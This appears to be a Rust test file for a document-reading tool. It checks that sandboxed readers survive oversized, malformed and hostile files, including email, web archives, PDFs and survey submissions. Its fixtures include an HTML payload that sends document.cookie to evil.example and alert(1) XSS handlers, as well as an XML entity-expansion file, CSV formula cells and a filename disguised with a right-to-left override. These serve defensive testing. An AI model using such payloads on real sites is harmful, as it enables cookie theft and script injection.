//! Documents meet their readers in processes of their own.

use super::tar::entry;
use super::{Result, code, json, new_case, program, run, stderr, stdout, text};
use std::fs;
use std::io::Write;
use std::process::Stdio;

const PAGE: &str = "<html><body><p>Civic Watch said that guards beat four men.</p></body></html>";

/// Elements without end take more memory than any reader has.
fn greedy() -> String {
    format!("<html><body>{}", "<p>a<b>c".repeat(7_000_000))
}

#[test]
fn what_takes_too_much_memory_is_a_line_and_stops_nothing() -> Result {
    let (folder, case) = new_case()?;
    let given = folder.path().join("given");
    fs::create_dir(&given)?;
    fs::write(given.join("a.html"), PAGE)?;
    fs::write(given.join("b.html"), greedy())?;
    fs::write(given.join("c.txt"), "Nothing was seen at night.")?;
    let added = run(&["add", text(&case)?, text(&given)?, "--json"])?;
    assert_eq!(code(&added), 1, "{}", stderr(&added));
    let report = json(&added)?;
    assert_eq!((&report["read"], &report["failed"]), (&2.into(), &1.into()));
    let reason = report["items"][1]["reason"].as_str().unwrap_or_default();
    assert_eq!(reason, "reading it took more than 512 MiB of memory and was ended");
    Ok(())
}

#[test]
fn a_reader_that_is_asked_nonsense_ends() -> Result {
    for asked in [&b""[..], b"\xFF\xFF\xFF\xFF", b"\x02\0\0\0{}", b"\x05\0\0\0words"] {
        let mut reader = program()
            .args(["read", "--worker"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()?;
        // It may be gone before all of it is written.
        let _ = reader.stdin.take().ok_or("no pipe")?.write_all(asked);
        let output = reader.wait_with_output()?;
        assert_eq!((code(&output), output.stdout.len()), (70, 0));
    }
    Ok(())
}

#[test]
fn a_message_from_standard_input_is_read_with_what_is_attached() -> Result {
    let message = format!(
        "From: a@b\nSubject: A page\nMessage-ID: <1>\nMIME-Version: 1.0\n\
         Content-Type: multipart/mixed; boundary=b\n\n--b\n\nSee the page.\n\
         --b\nContent-Type: text/html\nContent-Disposition: attachment; filename=p.html\n\n\
         {PAGE}\n--b--\n"
    );
    let mut reader =
        program().args(["read", "-"]).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn()?;
    reader.stdin.take().ok_or("no pipe")?.write_all(message.as_bytes())?;
    let output = reader.wait_with_output()?;
    let lines: Vec<serde_json::Value> =
        stdout(&output).lines().map(serde_json::from_str).collect::<std::result::Result<_, _>>()?;
    let kinds: Vec<_> = lines.iter().map(|line| (&line["file"], &line["kind"])).collect();
    assert_eq!(kinds, [(&"-".into(), &"message".into()), (&"-/p.html".into(), &"html".into())]);
    Ok(())
}

#[test]
fn doctor_says_what_guards_a_reader() -> Result {
    let said = json(&run(&["doctor", "--json"])?)?;
    let guards = &said["readers"]["guards"];
    assert_eq!(guards["limits"], cfg!(unix), "{said}");
    assert_eq!(guards["calls"], cfg!(target_os = "linux"), "{said}");
    Ok(())
}

/// A page of a web archive (ISO 28500), which says of itself how long it is.
fn web_archive() -> Vec<u8> {
    let answer = format!("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n{PAGE}");
    format!(
        "WARC/1.1\r\nWARC-Type: response\r\nWARC-Target-URI: https://harbour.example/a\r\n\
         WARC-Date: 2025-09-04T10:00:00Z\r\nWARC-Record-ID: <urn:uuid:1>\r\n\
         Content-Type: application/http;msgtype=response\r\nContent-Length: {}\r\n\r\n{answer}\r\n\r\n",
        answer.len()
    )
    .into_bytes()
}

/// One page that shows a sentence (ISO 32000-1).
const PAPER: &str = "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n\
    2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n\
    3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R\
    /Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>endobj\n\
    4 0 obj<</Length 64>>stream\nBT /F1 12 Tf 72 720 Td (The guards came at night, he said.) Tj ET  \nendstream endobj\n\
    trailer<</Root 1 0 R>>\n";

/// A submission as KoboToolbox gives it.
const FORM: &str = r#"[{"_id": 7, "_uuid": "a1", "_submission_time": "2025-09-04T10:00:00", "name": "Ana", "seen": "Guards at night"}]"#;

/// A submission as ODK keeps it.
const INSTANCE: &str = "<data id=\"interview\" version=\"1\"><meta><instanceID>uuid:a1</instanceID></meta>\
    <name>Ana</name><seen>Guards at night</seen></data>";

const SCRIPTED: &str = "<html><body><script>fetch('https://evil.example/'+document.cookie)</script>\
    <p onclick=\"alert(1)\">Nothing was seen at night.</p><img src=x onerror=alert(1)></body></html>";

/// Files that are made here: the name, the bytes, and whether they can be read.
fn made() -> Vec<(&'static str, Vec<u8>, bool)> {
    let archive =
        [entry("in/a.html", PAGE.as_bytes()), entry("in/n.txt", b"Nothing."), vec![0; 1024]];
    let text = |text: &str| text.as_bytes().to_vec();
    vec![
        ("archive.tar", archive.concat(), true),
        ("page.warc", web_archive(), true),
        ("paper.pdf", text(PAPER), true),
        ("paper.txt", text(PAPER), true),
        ("scripted.html", text(SCRIPTED), true),
        ("wrong.docx", text(PAGE), true),
        ("rich.rtf", text(r"{\rtf1\ansi The guards came at night.\par}"), true),
        (
            "picture.svg",
            text("<svg xmlns='http://www.w3.org/2000/svg'><text>night</text></svg>"),
            true,
        ),
        ("formulas.csv", text("name,sum\nAna,=1+1\nLuis,=HYPERLINK(\"x\")\n"), true),
        ("interview.txt", text("Q: What did you see?\nA: I saw the guards at night.\n"), true),
        (
            "latin.txt",
            b"La c\xe1rcel qued\xf3 vac\xeda esa noche, dijo el ministro.".to_vec(),
            true,
        ),
        ("deep.json", text(&"[".repeat(100_000)), true),
        ("\u{202e}txt.exe.txt", text("Nothing was seen."), true),
        ("mail.eml", text("From: a@b\nSubject: s\nMessage-ID: <1>\n\nNothing was seen.\n"), true),
        (
            "box.mbox",
            text("From a@b Tue Dec 23 10:00:00 2025\nFrom: a@b\nSubject: s\n\nNothing.\n"),
            true,
        ),
        ("laughs.xml", text("<!DOCTYPE a [<!ENTITY b 'ha'><!ENTITY c '&b;&b;'>]><a>&c;</a>"), true),
        ("form.json", text(FORM), true),
        ("instance.xml", text(INSTANCE), true),
        (
            "pixel.gif",
            b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"
                .to_vec(),
            true,
        ),
        ("notes.md", text("# Notes\n\nThe guards came at night, Ana Ruiz said.\n"), true),
        ("list.tsv", text("Name\tAge\nAna Sol\t34\nLuis Vale\t41\n"), true),
        ("talk.vtt", text("WEBVTT\n\n00:01.000 --> 00:04.000\n<v Ana>They came at night.\n"), true),
        ("es.txt", text("El ministro negó las acusaciones el 3 de marzo de 2025.\n"), true),
        ("ar.txt", text("قال ناجون إن الحراس جاؤوا ليلا في 3 مارس 2025.\n"), true),
        ("empty.txt", Vec::new(), false),
        ("blank.txt", text(" \n\t"), false),
        ("program", b"\x7fELF\x02\x01\x01\0\0\0".to_vec(), false),
        ("cut.zip", b"PK\x03\x04\x14\0\0\0\x08\0".to_vec(), false),
        ("cut.pdf", text(&PAPER[..60]), false),
        ("noise.bin", (0..4000_u32).map(|n| ((n * 7919) >> 3) as u8).collect(), false),
        ("disk.sqlite", b"SQLite format 3\0\x10\0\x01\x01\0".to_vec(), false),
    ]
}

#[test]
fn a_folder_of_mixed_files_is_read_with_nothing_skipped() -> Result {
    let (folder, case) = new_case()?;
    let given = folder.path().join("given");
    fs::create_dir(&given)?;
    let fixtures = concat!(env!("CARGO_MANIFEST_DIR"), "/../read/src/fixtures");
    let mut files = 0_usize;
    for fixture in fs::read_dir(fixtures)? {
        let path = fixture?.path();
        if path.is_file() {
            fs::copy(&path, given.join(path.file_name().ok_or("no name")?))?;
            files += 1;
        }
    }
    let made = made();
    for (name, bytes, _) in &made {
        fs::write(given.join(name), bytes)?;
        files += 1;
    }
    assert!(files >= 50, "{files}");
    // With what lies in the archives: two in the first, one in the web archive, one in the mailbox.
    let added = run(&["add", text(&case)?, text(&given)?, "--json"])?;
    let report = json(&added)?;
    let items = report["items"].as_array().ok_or("no items")?;
    assert_eq!((items.len(), &report["given"]), (files + 4, &items.len().into()), "{report}");
    for (name, _, can_be_read) in &made {
        let is_it = |item: &&serde_json::Value| {
            item["file"].as_str().is_some_and(|file| file.ends_with(&format!("given/{name}")))
        };
        let item = items.iter().find(is_it).ok_or_else(|| format!("no line for {name}"))?;
        assert_eq!(item["outcome"] == "failed", !can_be_read, "{item}");
        assert!(*can_be_read || item["reason"].is_string(), "{item}");
    }
    let failed = items.iter().filter(|item| item["outcome"] == "failed").count();
    assert_eq!(failed, made.iter().filter(|(.., can_be_read)| !can_be_read).count(), "{report}");
    Ok(())
}

/// The most memory that a process ever had, in bytes (`proc(5)`).
#[cfg(target_os = "linux")]
fn peak(process: u32) -> Result<u64> {
    let status = fs::read_to_string(format!("/proc/{process}/status"))?;
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).ok_or("no peak")?;
    Ok(line.trim().trim_end_matches(" kB").parse::<u64>()? << 10)
}

/// Whatever its readers take, the program that asks them does not grow with what it was given.
#[test]
#[cfg(target_os = "linux")]
fn hostile_files_do_not_make_the_program_grow() -> Result {
    use std::io::{BufRead, BufReader};
    const ROUNDS: usize = 4;
    let folder = tempfile::tempdir()?;
    let write = |name: &str, bytes: &[u8]| {
        let path = folder.path().join(name);
        fs::write(&path, bytes).map(|()| path)
    };
    let hostile = [
        write("greedy.html", greedy().as_bytes())?,
        write("deep.html", format!("<html>{}", "<div><b>".repeat(500_000)).as_bytes())?,
        write("deep.json", "[".repeat(4 << 20).as_bytes())?,
        write("noise.pdf", &[&b"%PDF-1.7\n"[..], &vec![b'('; 8 << 20]].concat())?,
    ];
    let page = write("page.html", PAGE.as_bytes())?;
    let round = hostile.iter().chain([&page]);
    let mut reader = program()
        .arg("read")
        .args((0..ROUNDS).flat_map(|_| round.clone()))
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()?;
    let lines = BufReader::new(reader.stdout.take().ok_or("no pipe")?).lines();
    let mut peaks = Vec::new();
    for line in lines {
        if line?.contains("Civic Watch") {
            // The last line may be read when the program is gone.
            peaks.extend(peak(reader.id()));
        }
    }
    reader.wait()?;
    let (first, last) = (peaks.first().ok_or("no line")?, peaks.last().ok_or("no line")?);
    assert!(peaks.len() >= 2, "{peaks:?}");
    assert!(*last <= first + (32 << 20) && *last < 512 << 20, "{peaks:?}");
    Ok(())
}
